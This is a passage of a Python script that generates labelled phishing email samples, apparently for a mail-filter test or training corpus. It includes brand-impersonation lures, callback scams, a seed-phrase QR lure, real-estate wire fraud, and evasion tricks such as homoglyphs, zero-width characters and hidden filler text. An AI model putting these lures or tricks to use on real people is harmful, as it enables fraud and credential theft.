            "<tr><td style=\"padding:0;padding-top:25px;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a\">"
            f"To opt out or change where you receive security notifications, <a href=\"{mailto}\" style=\"color:#2672ec\">click here</a>.</td></tr>"
            "<tr><td style=\"padding:0;padding-top:25px;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a\">"
            "Thanks,</td></tr><tr><td style=\"padding:0;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a\">"
            "The Microsoft account team</td></tr></table></body></html>\n")
    headers = std(addr("Microsoft account team", "no-reply@access-accsecurity.com"), rcpt,
                  "Microsoft account unusual sign-in activity", sent(when, UTC), php_msgid(n, "access-accsecurity.com"),
                  reply_to=reply, extra=[php_tail()])
    return Sample(n, "phishing", "Copy of Microsoft's unusual-sign-in email (Russia/Moscow, Kali Linux) from access-accsecurity.com; "
                  "'Report The User' is a mailto: to a Gmail address that is also the Reply-To, to start a support-scam conversation",
                  "outlook", rcpt, when, via, headers, html_only(html), scl=1)


@sample
def p32():
    n = "b11-netflix-payment-wixsite-gmail"
    when = at("2025-09-09 18:05:12")
    rcpt = "brooke.sandoval@gmail.com"
    host = "mta.mailer-nflx-billing.com"
    via = vps_via("mailer-nflx-billing.com", host, "87.120.116.39", "info@mailer-nflx-billing.com", dkim=True, dmarc="pass",
                  country="BG")
    url = "https://nflxmemberhelp.wixsite.com/billing"
    html = card("Netflix", '<div style="padding:24px 32px 0 32px;font-size:34px;font-weight:bold;color:#e50914;letter-spacing:1px">NETFLIX</div>',
                ps("<b style=\"font-size:22px\">Your payment was declined</b>",
                   "Hi Brooke,",
                   "We're having some trouble with your current billing information. We'll try again, but in the meantime you may "
                   "want to update your payment details.",
                   "Your membership will be put on hold on <b>September 11, 2025</b> if we can't charge your card.")
                + button(url, "UPDATE ACCOUNT NOW", "#e50914")
                + ps("Need help? We're here if you need it. Visit the Help Center or contact us now.", "&ndash;Your friends at Netflix"),
                "Questions? Call 1-866-579-7172<br>This account email has been sent to you as part of your Netflix membership.<br>"
                "Netflix, Inc. 121 Albright Way, Los Gatos, CA 95032")
    headers = std(addr("Netflix", "info@mailer-nflx-billing.com"), addr("Brooke", rcpt),
                  "Brooke, your payment was declined - update your account", sent(when, UTC),
                  php_msgid(n, "mailer-nflx-billing.com"), extra=[php_tail()])
    return Sample(n, "phishing", "Netflix payment-declined copy from mailer-nflx-billing.com (Bulgarian VPS), the footer keeps "
                  "Netflix's real phone and address while 'UPDATE ACCOUNT NOW' goes to a wixsite.com page", "gmail", rcpt, when,
                  via, headers, html_only(html))


@sample
def p33():
    n = "b11-adp-direct-deposit-lookalike-m365"
    when = at("2024-12-17 14:30:22")
    rcpt = "accounts@harborviewplumbing.com"
    host = "mail.adp-workforcenow.net"
    via = vps_via("adp-workforcenow.net", host, "172.86.75.153", "security@adp-workforcenow.net", dkim=True, dmarc="pass")
    url = "https://workforcenow-adp.com/signin/v1/?APPID=WFNPortal&amp;productId=" + guid(n, "pid")
    html = card("ADP", banner("#d0271d", "https://workforcenow-adp.com/static/adp-logo-white.png", "ADP"),
                ps("<b>Action required: confirm your direct deposit before the holiday payroll</b>",
                   "Hello,",
                   "ADP is upgrading payroll security for all Workforce Now clients. Employees and administrators must re-confirm "
                   "their direct deposit account before the <b>December 20, 2024</b> payroll run.",
                   "Accounts that are not confirmed will receive a paper check, which may delay your holiday pay by up to 10 days.")
                + button(url, "Confirm Direct Deposit", "#d0271d")
                + ps("ADP Client Security Team"),
                "ADP, the ADP logo and Always Designing for People are trademarks of ADP, Inc. &copy; 2024 ADP, Inc. All rights reserved.<br>"
                "This is an automated message; please do not reply.")
    headers = std(addr("ADP Workforce Now", "security@adp-workforcenow.net"), rcpt,
                  "Action Required: Confirm your direct deposit information", sent(when, UTC),
                  php_msgid(n, "adp-workforcenow.net"), extra=[php_tail()])
    return Sample(n, "phishing", "ADP 'confirm your direct deposit before the holiday payroll' lure to a small plumbing business, "
                  "sent from adp-workforcenow.net, sign-in page on the second lookalike workforcenow-adp.com",
                  "m365", rcpt, when, via, headers, html_only(html), scl=1)


@sample
def p34():
    n = "b11-spotify-image-only-onrender-yahoo"
    when = at("2024-08-27 21:11:44")
    rcpt = "emily.tran_88@yahoo.com"
    host = "mail.sp-billingcenter.com"
    via = vps_via("sp-billingcenter.com", host, "103.145.13.96", "no-reply@sp-billingcenter.com", dkim=True, dmarc="pass",
                  country="VN")
    url = "https://spotify-premium-billing.onrender.com/account?ref=" + hx(n, "ref", 10)
    img = text_image([("Spotify Premium", 30, (30, 215, 96)), ("", 10, (0, 0, 0)),
                      ("Your payment failed", 26, (255, 255, 255)),
                      ("We couldn't process your payment for Premium Individual.", 17, (200, 200, 200)),
                      ("Update your card details within 48 hours to keep", 17, (200, 200, 200)),
                      ("listening without ads. Your playlists may be removed.", 17, (200, 200, 200))],
                     (600, 340), background=(18, 18, 18), button=("UPDATE PAYMENT", (30, 185, 84)))
    cid = f"{hx(n, 'cid', 16)}@sp-billingcenter.com"
    html = (f"<html><body style=\"margin:0;background:#121212\"><center><a href=\"{url}\">"
            f"<img src=\"cid:{cid}\" width=\"600\" height=\"340\" alt=\"\" style=\"display:block;border:0\"></a></center></body></html>\n")
    body = Multi("related", boundary(n, "php", "rel"), [html_only(html), inline_image("image/jpeg", "spotify.jpg", img, cid)])
    headers = std(addr("Spotify", "no-reply@sp-billingcenter.com"), rcpt, "Your Spotify Premium payment failed",
                  sent(when, UTC), php_msgid(n, "sp-billingcenter.com"), extra=[php_tail()])
    return Sample(n, "phishing", "Spotify payment-failed notice whose body is a single picture of text (no readable words) linked "
                  "to spotify-premium-billing.onrender.com, from sp-billingcenter.com", "yahoo", rcpt, when, via, headers, body)


@sample
def p35():
    n = "b11-costco-reward-hidden-text-gcs-comcast"
    when = at("2023-06-20 13:44:31")
    rcpt = "fkowalski@comcast.net"
    host = f"mx{num(n, 'mx', 1, 9)}.kzt.thebestrewardsclub.rest"
    via = vps_via("kzt.thebestrewardsclub.rest", host, "185.236.231.18", f"bounce-{hx(n, 'b', 8)}@kzt.thebestrewardsclub.rest",
                  country="US")
    via.from_domain = "kzt.thebestrewardsclub.rest"
    url = f"https://storage.googleapis.com/cstcmbrsurvey/index.html#/c/{hx(n, 'c', 12)}?s={digits(n, 's', 6)}"
    filler = ("Spring gardening tips: start seedlings indoors six weeks before the last frost, water early in the morning, "
              "and rotate your tomato beds every season to keep the soil healthy. Mulch helps keep roots cool in July.")
    html = ("<html><head><meta charset=\"utf-8\"></head><body style=\"background:#eee;margin:0\">"
            f"<span style=\"display:none!important;visibility:hidden;opacity:0;color:transparent;height:0;width:0\">{filler}</span>"
            "<table width=\"100%\"><tr><td align=\"center\"><table width=\"580\" style=\"background:#fff;font-family:Arial,sans-serif\">"
            "<tr><td style=\"background:#005daa;padding:16px;text-align:center;color:#fff;font-size:26px;font-weight:bold\">"
            "<span style=\"color:#e31837\">COSTCO</span> WHOLESALE</td></tr>"
            "<tr><td style=\"padding:24px;text-align:center\"><h2>Congratulations, Costco Member!</h2>"
            "<p style=\"font-size:15px\">You have been selected to take part in our 30-second Member Satisfaction Survey. "
            "Complete it today and claim your exclusive reward: a <b>Ninja Foodi 8-in-1 Air Fryer</b> (just pay $6.95 shipping).</p>"
            f"<p><a href=\"{url}\" style=\"background:#e31837;color:#fff;padding:14px 30px;text-decoration:none;font-weight:bold\">START SURVEY</a></p>"
            "<p style=\"font-size:12px;color:#888\">Only 7 rewards remaining. Offer expires today.</p></td></tr>"
            "<tr><td style=\"padding:12px;font-size:10px;color:#aaa;text-align:center\">If you no longer wish to receive these "
            f"emails, <a href=\"https://kzt.thebestrewardsclub.rest/u/{hx(n, 'u', 16)}\" style=\"color:#aaa\">unsubscribe here</a>. "
            "1521 Concord Pike #301, Wilmington, DE 19803</td></tr></table></td></tr></table>"
            f"<div style=\"font-size:0;color:#eee\">{filler}</div></body></html>\n")
    headers = std(addr("Costco Members", f"rewards@kzt.thebestrewardsclub.rest"), rcpt,
                  "Costco: Your membership reward is waiting - confirm today", sent(when, UTC),
                  php_msgid(n, "kzt.thebestrewardsclub.rest"),
                  extra=[f"List-Unsubscribe: <https://kzt.thebestrewardsclub.rest/u/{hx(n, 'u', 16)}>", php_tail()])
    return Sample(n, "phishing", "Costco 'member survey' reward lure (air fryer for $6.95 shipping, i.e. card capture) from a "
                  ".rest domain, hidden gardening filler text, link to a Google Cloud Storage bucket page",
                  "comcast", rcpt, when, via, headers, html_only(html))


@sample
def p36():
    n = "b11-homedepot-survey-tly-hidden-att"
    when = at("2024-04-30 15:26:09")
    rcpt = "sharon.kimball@att.net"
    host = "mail.customerfeedbackhub.quest"
    via = vps_via("customerfeedbackhub.quest", host, "195.133.20.84", "survey@customerfeedbackhub.quest", country="US")
    url = "https://t.ly/HDrw" + an(n, "tly", 4)
    filler = "".join(f"<span style=\"font-size:0\">{w}</span>" for w in
                     "invoice meeting schedule weather recipe baseball library schedule garden thanks".split())
    html = ("<html><body style=\"font-family:Arial,sans-serif\"><div style=\"max-width:560px;margin:auto;border:1px solid #ddd\">"
            "<div style=\"background:#f96302;color:#fff;padding:16px;font-size:24px;font-weight:bold\">The Home Depot</div>"
            f"<div style=\"padding:20px\">{filler}<h2>You've been chosen!</h2>"
            "<p>Thank you for your recent visit to The Home Depot. Tell us about your experience in our 2-minute survey and "
            "receive a <b>$100 Home Depot gift card</b> as a thank-you.</p>"
            f"<p style=\"text-align:center\"><a href=\"{url}\" style=\"background:#f96302;color:#fff;padding:12px 24px;text-decoration:none\">Take the Survey</a></p>"
            "<p style=\"font-size:11px;color:#999\">Survey must be completed by 04/30/2024. A small processing fee may apply to "
            "reward delivery. Home Depot is a registered trademark of Home Depot Product Authority, LLC. This promotion is not "
            "sponsored by The Home Depot.</p></div></div></body></html>\n")
    headers = std(addr("The Home Depot Survey", "survey@customerfeedbackhub.quest"), rcpt,
                  "Sharon, your $100 Home Depot reward is waiting", sent(when, UTC), php_msgid(n, "customerfeedbackhub.quest"),
                  extra=[php_tail()])
    return Sample(n, "phishing", "Home Depot '$100 gift card' survey lure from customerfeedbackhub.quest with zero-size filler "
                  "words, 'processing fee' and a disclaimer in grey small print, link behind a t.ly short link",
                  "att", rcpt, when, via, headers, html_only(html))


@sample
def p37():
    n = "b11-geeksquad-renewal-callback-pdf-gmail"
    when = at("2024-02-06 14:03:55")
    rcpt = "tgarrison1961@gmail.com"
    sender = "billingdesk.gsq1881@gmail.com"
    via = gmail_via(sender, n)
    inv = f"GS-{digits(n, 'inv', 8)}"
    phone = "+1 (877) 555-0146"
    pdf = pdf_doc(["GEEK SQUAD PROTECTION", "", f"INVOICE NO: {inv}", "DATE: 02/06/2024", "", "BILL TO: Customer",
                   "", "DESCRIPTION                                  QTY      AMOUNT",
                   "Geek Squad Total Tech Support - 3 Years           1      $349.99",
                   "Auto-Renewal (Card on file)", "", "SUB TOTAL: $349.99", "TAX: $0.00", "TOTAL: $349.99", "",
                   "Your subscription has been renewed and the amount will be debited within 24 hours.",
                   f"To cancel or request a refund, call our billing helpline: {phone}", "",
                   "Thank you for choosing Geek Squad."],
                  "Invoice", "Microsoft: Print To PDF", "D:20240206080211-06'00'")
    plain = (f"Dear Customer,\n\nYour Geek Squad Total Tech Support membership has been auto-renewed for 3 years.\n\n"
             f"Invoice: {inv}\nAmount: $349.99\nPayment: card on file\n\nIf you want to cancel the renewal and get a refund, "
             f"call us within 24 hours at {phone}.\n\nThe invoice is attached.\n\nGeek Squad Billing Department\n")
    html = ("<div dir=\"ltr\">Dear Customer,<br><br>Your Geek Squad Total Tech Support membership has been auto-renewed for "
            f"3 years.<br><br>Invoice: <b>{inv}</b><br>Amount: <b>$349.99</b><br>Payment: card on file<br><br>If you want to "
            f"cancel the renewal and get a refund, call us within 24 hours at <b>{phone}</b>.<br><br>The invoice is attached."
            "<br><br>Geek Squad Billing Department</div>\n")
    body = mixed(n, "gmail", [alt(n, "gmail", plain, html), attachment("application/pdf", f"Invoice_{inv}.pdf", pdf)])
    headers = "MIME-Version: 1.0\n" + std(addr("Geek Squad", sender), rcpt, f"Your Geek Squad membership renewal - Invoice {inv}",
                                          sent(when, CT), gmail_msgid(n), mime_version=False)
    return Sample(n, "phishing", "Geek Squad auto-renewal callback scam from a Gmail address: $349.99 'renewal' with a refund "
                  "phone number in the body and in the attached PDF invoice, no link", "gmail", rcpt, when, via, headers, body,
                  pre=gmail_pre(n, when))


@sample
def p38():
    n = "b11-norton-invoice-phone-only-in-pdf-outlook"
    when = at("2025-05-20 16:47:21")
    rcpt = "deb.sorensen@hotmail.com"
    sender = "harlan.weeks774@gmail.com"
    via = gmail_via(sender, n)
    inv = f"NLK{digits(n, 'inv', 9)}"
    pdf = pdf_doc(["NortonLifeLock", "", "Order Confirmation / Invoice", f"Invoice #: {inv}", "Date: May 20, 2025", "",
                   "Product: Norton 360 Deluxe with LifeLock Select - 5 Devices", "Subscription term: 2 Years",
                   "Quantity: 1", "Amount charged: $399.99 USD", "Payment method: Auto-debit", "",
                   "Your subscription has been successfully renewed. The charge will appear on your",
                   "statement within 24-48 hours.", "",
                   "If you did not authorize this renewal or wish to cancel, contact our support team:",
                   "Toll Free: +1 (833) 555 - 0108  (Mon-Sat 9AM-8PM EST)", "",
                   "(c) 2025 NortonLifeLock Inc. All rights reserved."],
                  "Invoice", "Microsoft: Print To PDF", "D:20250520114512-05'00'")
    plain = "Hello,\n\nThank you for your business. Your order has been processed, please find the attached invoice for your reference.\n\nRegards\n"
    html = ("<div dir=\"ltr\">Hello,<div><br></div><div>Thank you for your business. Your order has been processed, please find "
            "the attached invoice for your reference.</div><div><br></div><div>Regards</div></div>\n")
    body = mixed(n, "gmail", [alt(n, "gmail", plain, html), attachment("application/pdf", f"{inv}.pdf", pdf)])
    headers = "MIME-Version: 1.0\n" + std(addr("Harlan Weeks", sender), rcpt, f"Your Order Has Been Processed ID: {inv}",
                                          sent(when, ET), gmail_msgid(n), mime_version=False)
    return Sample(n, "phishing", "Norton LifeLock callback scam from a personal-looking Gmail address: the body says only 'invoice "
                  "attached'; the $399.99 renewal and the 'cancel' phone number are only inside the PDF", "outlook", rcpt, when,
                  via, headers, body, pre=gmail_pre(n, when), scl=1)


def workspace_via(domain: str, mailfrom: str, n: str, dmarc: str = "pass", policy: str = "NONE") -> Via:
    ip = f"209.85.{num(n, 'wsip', 128, 223)}.{num(n, 'wsip2', 41, 230)}"
    host = f"mail-{['pj1', 'pl1', 'qk1', 'oi1', 'yb1', 'qt1'][num(n, 'wsh', 0, 5)]}-f{ip.split('.')[3]}.google.com"
    return Via(ip=ip, helo=host, rdns=host, mailfrom=mailfrom, spf="pass", dkim=[(domain, "google", "pass")],
               dmarc=dmarc, policy=policy, from_domain=domain,
               sign_headers="mime-version:from:date:message-id:subject:to")


def workspace_pre(n: str, when: datetime, domain: str) -> str:
    return (f"X-Google-DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed;\n        d=1e100.net; s=20230601; t={int(when.timestamp()) - 3};"
            f" x={int(when.timestamp()) + 604797};\n        h=to:subject:message-id:date:from:mime-version:x-gm-message-state:from:to:cc:subject:date:message-id:reply-to;\n"
            f"        bh={b64(n, 'xg-bh', 32)};\n        b={fold(b64(n, 'xg-b', 256), 70, '         ')}\n"
            f"X-Gm-Message-State: AOJu0Y{an(n, 'gms', 60)}\n"
            f"X-Google-Smtp-Source: AGHT+I{an(n, 'gsrc-out', 82)}\n"
            f"X-Received: by 2002:a05:{hx(n, 'gx1', 4)}:{hx(n, 'gx2', 4)}:b0:{hx(n, 'gx3', 3)}:{hx(n, 'gx4', 4)}:{hx(n, 'gx4b', 4)} with SMTP id\n"
            f" {an(n, 'gx5', 12).lower()}-{hx(n, 'gx6', 10)}.{num(n, 'gx7', 10, 99)}.{int(when.timestamp()) - 3}{num(n, 'gx8', 100, 999)}; "
            f"{gtime(when - timedelta(seconds=3))}")


@sample
def p39():
    n = "b11-mcafee-renewal-homoglyph-phone-pta-aol"
    when = at("2023-09-26 17:55:02")
    rcpt = "bobbyjeanwalsh@aol.com"
    dom = "oakridgepta.org"
    sender = "treasurer@oakridgepta.org"
    via = workspace_via(dom, sender, n, dmarc="none")
    zw = "\u200d"
    phone = f"+1 (8{zw}O8) 55{zw}5-0l{zw}27"
    brand = "\u041ccAfee"  # Cyrillic capital EM
    plain = (f"{brand} Total Protection\n\nDear Customer,\n\nThank you for renewing your {brand} Total Protection subscription. "
             f"Your payment of $489.99 has been processed successfully.\n\nOrder ID: MC-{digits(n, 'o', 9)}\nProduct: {brand} Total "
             "Protection - 10 Devices (3 Years)\nAmount: $489.99\nPayment: Auto-Debit\n\nIf you wish to cancel and get a full "
             f"refund, please call our billing department at {phone} within 24 hours.\n\nRegards,\n{brand} Billing Team\n")
    html = ("<div dir=\"ltr\"><p><b style=\"color:#c01818;font-size:20px\">" + brand + "</b> Total Protection</p>"
            "<p>Dear Customer,</p><p>Thank you for renewing your " + brand + " Total Protection subscription. Your payment of "
            "<b>$489.99</b> has been processed successfully.</p><table cellpadding=\"4\">"
            f"<tr><td>Order ID</td><td>MC-{digits(n, 'o', 9)}</td></tr><tr><td>Product</td><td>{brand} Total Protection - 10 Devices (3 Years)</td></tr>"
            "<tr><td>Amount</td><td>$489.99</td></tr><tr><td>Payment</td><td>Auto-Debit</td></tr></table>"
            f"<p>If you wish to cancel and get a full refund, please call our billing department at <b>{phone}</b> within 24 hours.</p>"
            f"<p>Regards,<br>{brand} Billing Team</p></div>\n")
    headers = "MIME-Version: 1.0\n" + std(addr(f"{brand} Billing", sender), "undisclosed-recipients:;",
                                          f"{brand} Total Protection: Subscription Renewed ($489.99)", sent(when, ET),
                                          gmail_msgid(n), mime_version=False)
    return Sample(n, "phishing", "McAfee renewal callback scam from a school PTA's compromised Google Workspace mailbox: 'McAfee' "
                  "spelled with a Cyrillic М and the phone number broken by zero-width joiners and letter O/l for 0/1",
                  "aol", rcpt, when, via, headers, alt(n, "gmail", plain, html), pre=workspace_pre(n, when, dom))


@sample
def p40():
    n = "b11-coinbase-withdrawal-cancel-ses-gmail"
    when = at("2025-05-27 19:02:48")
    rcpt = "kevin.larue@gmail.com"
    dom = "coinbase-security-case.com"
    via = ses_via(dom, n, custom_dkim=True)
    case = digits(n, "case", 8)
    url = f"https://coinbase.com-cancel-request.info/case/{case}?t={hx(n, 't', 16)}"
    wallet = "bc1q" + an(n, "btc", 38, "023456789acdefghjklmnpqrstuvwxyz")
    html = card("Coinbase", '<div style="padding:24px 32px 0 32px;font-size:28px;font-weight:bold;color:#0052ff">coinbase</div>',
                ps("<b style=\"font-size:20px\">Withdrawal request received</b>",
                   "We received a request to withdraw <b>0.48210000 BTC</b> (&asymp; $52,930.18 USD) from your Coinbase account to "
                   f"the following address:<br><code style=\"font-size:12px\">{wallet}</code>",
                   "Requested from: Chrome on Windows, Bucharest, Romania<br>Time: May 27, 2025 14:58 ET",
                   "If you did not make this request, cancel it immediately. Withdrawals are processed after 30 minutes and "
                   "cannot be reversed once confirmed on the blockchain.")
                + button(url, "Cancel Withdrawal", "#0052ff")
                + ps(f"Case ID: {case}", "Coinbase Security Team"),
                "Coinbase, Inc. 100 Pine Street, Suite 1250, San Francisco, CA 94111. Coinbase will never ask for your password or 2-step codes.")
    headers = std(addr("Coinbase", f"no-reply@{dom}"), rcpt, "Withdrawal request: 0.4821 BTC - cancel if this wasn't you",
                  sent(when, UTC, 2), ses_msgid(n), extra=[ses_tail(n, when)])
    return Sample(n, "phishing", "Coinbase pending-withdrawal scare (0.48 BTC to an unknown wallet, cancel within 30 minutes) sent "
                  "through Amazon SES from coinbase-security-case.com, link to the lookalike coinbase.com-cancel-request.info",
                  "gmail", rcpt, when, via, headers, html_only(html))


@sample
def p41():
    n = "b11-ledger-recovery-phrase-qr-pdf-icloud"
    when = at("2025-03-25 10:15:37")
    rcpt = "noah.whitaker@icloud.com"
    host = "mail.ledger-notifications.app"
    via = vps_via("ledger-notifications.app", host, "193.42.33.150", "security@ledger-notifications.app", dkim=True,
                  dmarc="pass", country="DE")
    qr_url = "https://ledger-secure-sync.web.app/recover?d=" + hx(n, "d", 10)
    pdf = pdf_doc(["Ledger - Mandatory Security Update", "", f"Notice reference: LDG-{digits(n, 'ref', 8)}", "",
                   "Following a security incident affecting a third-party e-commerce provider, Ledger is",
                   "requiring all Ledger Nano S Plus, Nano X and Stax owners to re-synchronize their device",
                   "with the new Ledger Secure Element registry before April 1, 2025.", "",
                   "Devices that are not re-synchronized will be unable to sign transactions and the funds",
                   "they protect may be exposed.", "",
                   "Scan the QR code with your phone and follow the steps to verify your 24-word",
                   "recovery phrase. This process takes about 3 minutes.", "", "", "", "", "", "", "", "", "", "", "", "",
                   "Ledger SAS - 1 rue du Mail, 75002 Paris, France"],
                  "Ledger Security Update", "Skia/PDF m122", "D:20250325091122+01'00'", qr=(qr_url, 56, 415, 170))
    plain = ("Dear Ledger customer,\n\nPlease read the attached security notice. All Ledger hardware wallets must be "
             "re-synchronized before April 1, 2025 or they will be unable to sign transactions.\n\nLedger Security Team\n")
    html = ("<html><body style=\"font-family:Helvetica,Arial,sans-serif;font-size:14px;color:#141414\">"
            "<p style=\"font-size:22px;font-weight:bold;letter-spacing:2px\">LEDGER</p><p>Dear Ledger customer,</p>"
            "<p>Please read the attached security notice. All Ledger hardware wallets must be re-synchronized before "
            "<b>April 1, 2025</b> or they will be unable to sign transactions.</p><p>Ledger Security Team</p></body></html>\n")
    body = mixed(n, "php", [alt(n, "php", plain, html), attachment("application/pdf", "Ledger_Security_Update.pdf", pdf)])
    headers = std(addr("Ledger", "security@ledger-notifications.app"), rcpt, "Mandatory security update for your Ledger device",
                  sent(when, UTC), php_msgid(n, "ledger-notifications.app"), extra=[php_tail()])
    return Sample(n, "phishing", "Ledger 'mandatory re-synchronization' notice from ledger-notifications.app; the PDF carries a QR "
                  "code to ledger-secure-sync.web.app that asks for the 24-word recovery phrase", "icloud", rcpt, when, via,
                  headers, body)


@sample
def p42():
    n = "b11-attorney-escrow-wire-change-lookalike"
    when = at("2025-06-10 15:48:26")
    rcpt = "paul.and.anna.reyes@gmail.com"
    fake = "harmon-lawgroup.com"
    sender = "dharmon@harmon-lawgroup.com"
    via = m365_via(fake, sender, n)
    pdf = pdf_doc(["HARMON LAW GROUP, PLLC", "Real Estate Closings - Escrow Department", "", "UPDATED WIRING INSTRUCTIONS",
                   "Property: 418 Birchwood Lane, Cary, NC 27519", "Buyers: Paul and Anna Reyes", "",
                   "Beneficiary: Harmon Law Group PLLC - IOLTA Escrow", "Bank: Pinnacle Crest Bank, N.A.",
                   f"Routing (ABA): 0{digits(n, 'aba', 8)}", f"Account: {digits(n, 'acct', 11)}",
                   "Reference: 418 Birchwood Ln / Reyes", "Amount: $86,412.37", "",
                   "These instructions replace all previous instructions. Our prior trust account is",
                   "under a scheduled audit and cannot receive incoming wires until further notice.", "",
                   "Daniel Harmon, Esq."],
                  "Wire Instructions", "Microsoft Word for Microsoft 365", "D:20250610104011-04'00'", author="Daniel Harmon")
    quote_date = rfc(when - timedelta(days=2, hours=3), ET)
    plain = ("Paul and Anna,\n\nQuick update before Thursday's closing. Our escrow trust account is currently under a scheduled "
             "audit by our bank, so we are not able to receive incoming wires to the account listed in our earlier instructions. "
             "Please use the updated wiring instructions attached for your closing funds ($86,412.37) and send the wire today "
             "so that it clears in time.\n\nPlease do not call the office about this, the phones are being transferred to our new "
             "system this week; just reply here with the Fed reference number once the wire is sent.\n\nThank you,\n\n"
             "Daniel Harmon, Esq.\nHarmon Law Group, PLLC\n\n"
             f"________________________________\nFrom: Daniel Harmon <dharmon@harmonlawgroup.com>\nSent: {quote_date}\n"
             "To: paul.and.anna.reyes@gmail.com\nSubject: 418 Birchwood Ln - Closing\n\n"
             "Paul and Anna, we're confirmed for closing on Thursday 6/12 at 10:00 AM at our Cary office. Please bring your "
             "driver's licenses. The final figures will follow from the lender.\n\nDaniel\n")
    html = ("<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=us-ascii\"></head><body>"
            "<div style=\"font-family:Aptos,Calibri,Helvetica,sans-serif;font-size:12pt;color:#000\">"
            "<p>Paul and Anna,</p><p>Quick update before Thursday's closing. Our escrow trust account is currently under a scheduled "
            "audit by our bank, so we are not able to receive incoming wires to the account listed in our earlier instructions. "
            "Please use the <b>updated wiring instructions attached</b> for your closing funds ($86,412.37) and send the wire "
            "today so that it clears in time.</p><p>Please do not call the office about this, the phones are being transferred to "
            "our new system this week; just reply here with the Fed reference number once the wire is sent.</p>"
            "<p>Thank you,</p><p>Daniel Harmon, Esq.<br>Harmon Law Group, PLLC</p></div>"
            "<hr style=\"display:inline-block;width:98%\"><div style=\"font-family:Calibri,sans-serif;font-size:11pt\">"
            "<b>From:</b> Daniel Harmon &lt;dharmon@harmonlawgroup.com&gt;<br>"
            f"<b>Sent:</b> {quote_date}<br><b>To:</b> paul.and.anna.reyes@gmail.com<br><b>Subject:</b> 418 Birchwood Ln - Closing</div>"
            "<div style=\"font-family:Calibri,sans-serif;font-size:11pt\"><p>Paul and Anna, we're confirmed for closing on Thursday "
            "6/12 at 10:00 AM at our Cary office. Please bring your driver's licenses. The final figures will follow from the "
            "lender.</p><p>Daniel</p></div></body></html>\n")
    body = mixed(n, "outlook", [alt(n, "outlook", plain, html),
                                attachment("application/pdf", "Updated_Wire_Instructions_418_Birchwood.pdf", pdf)])
    orig = f"<BN0PR{num(n, 'ref', 1, 22):02d}MB{num(n, 'ref2', 1000, 9999)}{hx(n, 'ref3', 24).upper()}@BN0PR{num(n, 'ref', 1, 22):02d}MB{num(n, 'ref2', 1000, 9999)}.namprd{num(n, 'ref4', 2, 22):02d}.prod.outlook.com>"
    headers = std(addr("Daniel Harmon", sender), addr("Paul Reyes", rcpt), "RE: 418 Birchwood Ln - Closing", sent(when, ET),
                  outlook_msgid(n, "SA1PR"),
                  extra=["Thread-Topic: 418 Birchwood Ln - Closing", f"Thread-Index: AQHb2{an(n, 'ti', 20)}",
                         f"In-Reply-To: {orig}", f"References: {orig}", "Accept-Language: en-US", "Content-Language: en-US",
                         m365_tail(n, when, fake)])
    return Sample(n, "phishing", "Real-estate wire fraud: a reply in the buyers' closing thread from harmon-lawgroup.com (the firm "
                  "is harmonlawgroup.com) with 'updated' wire instructions in a PDF, the old account 'under audit', and 'don't call'",
                  "gmail", rcpt, when, via, headers, body, pre=m365_pre(n, when))


@sample
def p43():
    n = "b11-meta-page-violation-salesforce-amp-m365"
    when = at("2023-11-08 18:22:15")
    rcpt = "kim@bluefinmarketing.co"
    ip = f"13.110.{num(n, 'sfip', 6, 7)}.{num(n, 'sfip2', 1, 254)}"
    host = f"smtp{num(n, 'sfh', 10, 40)}-ia{num(n, 'sfh2', 4, 5)}-sp3.mta.salesforce.com"
    via = Via(ip=ip, helo=host, rdns=host, mailfrom=f"noreply=salesforce.com__{hx(n, 'sfmf', 16)}@{an(n, 'sfmf2', 12).lower()}.bnc.salesforce.com",
              spf="pass", dkim=[("salesforce.com", "sf2", "pass")], dmarc="pass", policy="REJECT", from_domain="salesforce.com",
              sign_headers="Date:From:To:Subject:MIME-Version:Content-Type")
    target = f"fb-appeal-review.pages.dev/case/{digits(n, 'case', 12)}"
    url = f"https://www.google.com/amp/s/{target}"
    html = card("Meta for Business", '<div style="padding:24px 32px 0 32px;font-size:26px;font-weight:bold;color:#0866ff">&#8734; Meta</div>',
                ps("<b>Your Page has been scheduled for permanent deletion</b>",
                   "Hello,",
                   "We have received multiple reports that your Facebook Page <b>violates our Terms of Service and Community "
                   "Standards on intellectual property</b>. As a result, your Page and the linked Instagram account and ad "
                   "account are scheduled to be <b>permanently deleted within 48 hours</b>.",
                   "If you believe this decision is a mistake, you can submit an appeal. Please make sure you are logged in with "
                   f"the admin account of the Page. Appeal case #{digits(n, 'case', 12)}.")
                + button(url, "Request Review", "#0866ff")
                + ps("Meta Business Support Team"),
                "&copy; Meta Platforms, Inc., Attention: Community Support, 1 Meta Way, Menlo Park, CA 94025")
    headers = std(addr("Meta Pro Support", "noreply@salesforce.com"), rcpt,
                  "Final warning: your Page has been scheduled for deletion", sent(when, UTC, 2),
                  f"<{an(n, 'sfmid', 20)}00000000000000000000000000000000000000000000000{an(n, 'sfmid2', 12)}@sfdc.net>",
                  extra=["X-SFDC-LK: 00D" + an(n, "sfo", 15, UPNUM), "X-SFDC-User: 005" + an(n, "sfu", 15, UPNUM),
                         "X-Sender: postmaster@salesforce.com", "X-mail_abuse_inquiries: http://www.salesforce.com/company/abuse.jsp",
                         "X-SFDC-TLS-NoRelay: 1", "X-SFDC-Binding: 1WrIRBV94myi25uB", "X-SFDC-EmailCategory: apiSingleMail",
                         "X-SFDC-EntityId: 005" + an(n, "sfe", 15, UPNUM)])
    return Sample(n, "phishing", "Meta 'Page scheduled for deletion' appeal lure sent through a Salesforce org (From: "
                  "noreply@salesforce.com, DMARC pass) to a marketing agency; the link is a Google AMP redirect to "
                  "fb-appeal-review.pages.dev", "m365", rcpt, when, via, headers, html_only(html), scl=1)


@sample
def p44():
    n = "b11-meta-verified-badge-vercel-gmail"
    when = at("2024-11-05 16:31:49")
    rcpt = "sierravistaphoto@gmail.com"
    host = "server.meta-verification-team.com"
    via = vps_via("meta-verification-team.com", host, "62.60.131.204", "verified@meta-verification-team.com", dkim=True,
                  dmarc="pass", country="US")
    url = "https://meta-verified-request.vercel.app/apply?id=" + digits(n, "id", 15)
    html = card("Meta Verified", '<div style="padding:24px 32px 0 32px;font-size:24px;font-weight:bold;color:#1c2b33">Meta <span style="color:#0866ff">&#10004;</span> Verified</div>',
